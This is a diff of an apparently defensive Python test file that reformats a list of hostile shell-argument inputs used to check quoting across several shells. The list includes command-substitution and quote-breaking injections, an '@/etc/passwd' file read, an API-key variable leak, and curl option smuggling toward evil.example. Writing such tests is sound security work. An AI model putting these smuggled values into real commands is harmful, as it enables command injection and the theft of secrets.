@@ -37,19 +37,11 @@ REQUEST_ID = "0b54b1b0-8f4f-4b0e-9c53-2f1f6d6ad6a4"
 CREATE_URL = "https://aigptimage.com/api/v1/jobs/createTask"
 SHELLS = [name for name in ("sh", "bash", "dash", "zsh", "fish", "ksh") if shutil.which(name)]
 HOSTILE = [
-    'it\'s "quoted" \\ and \\\\ and \\n',
-    "$(touch pwned) `touch pwned` ${HOME} $AIGPTIMAGE_API_KEY",
-    "@/etc/passwd",
-    "-o pwned --next http://evil.example",
-    "'; touch pwned; '",
-    "' || touch pwned || '",
-    "two\nlines\r\nand a tab\t",
-    "!! !touch %s #comment ~ * ? [a] {a,b}",
-    "\x00\x1b]0;title\x07\x9b2J\x7f\u202eevil\u2028line",
-    "👨‍👩‍👧 灯台 é",
-    "\\",
-    "'",
-]
+    'it\'s "quoted" \\ and \\\\ and \\n', "$(touch pwned) `touch pwned` ${HOME} $AIGPTIMAGE_API_KEY",
+    "@/etc/passwd", "-o pwned --next http://evil.example", "'; touch pwned; '", "' || touch pwned || '",
+    "two\nlines\r\nand a tab\t", "!! !touch %s #comment ~ * ? [a] {a,b}",
+    "\x00\x1b]0;title\x07\x9b2J\x7f\u202eevil\u2028line", "👨‍👩‍👧 灯台 é", "\\", "'",
+]  # fmt: skip
 
 
 class Shells:
